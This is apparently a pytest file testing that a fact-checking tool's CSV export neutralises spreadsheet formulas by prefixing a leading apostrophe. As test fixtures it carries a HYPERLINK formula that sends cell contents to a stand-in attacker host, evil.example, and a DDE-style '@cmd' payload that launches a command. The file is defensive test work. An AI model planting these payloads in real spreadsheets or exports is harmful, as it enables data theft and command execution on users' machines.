"""CSV exports neutralise spreadsheet formulas: a cell that starts with = + - @, a tab or a
carriage return is written with a leading apostrophe, so a spreadsheet shows it as text."""

from __future__ import annotations

import csv
import io

from verify.export.tables import neutralise_formula

HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for sources")'


def test_formula_cells_are_neutralised(run_cli):
    texts = [HOSTILE, "+1 555 0100 was called 22 times.", "-22 people died in the siege.",
             "@cmd|' /C calc'!A0 was quoted."]  # fmt: skip
    for text in texts:
        assert run_cli("claim", "add", "--", text).exit_code == 0
    result = run_cli("claim", "add", "At least 22 people died in the siege.")
    assert result.exit_code == 0
    exported = run_cli("export", "--format", "csv")
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    cells = [r["claim"] if "claim" in r else r["text"] for r in rows]
    for text in texts:
        assert "'" + text in cells, text
        assert text not in cells
    assert "At least 22 people died in the siege." in cells  # plain text stays as it was


def test_neutralise_formula_leaves_numbers_and_plain_text():
    assert neutralise_formula(-5) == -5
    assert neutralise_formula(None) is None
    assert neutralise_formula("https://wire.example/x") == "https://wire.example/x"
    assert neutralise_formula("=1+1") == "'=1+1"
    assert neutralise_formula("\t=1+1") == "'\t=1+1"
    assert neutralise_formula("\r=1+1") == "'\r=1+1"
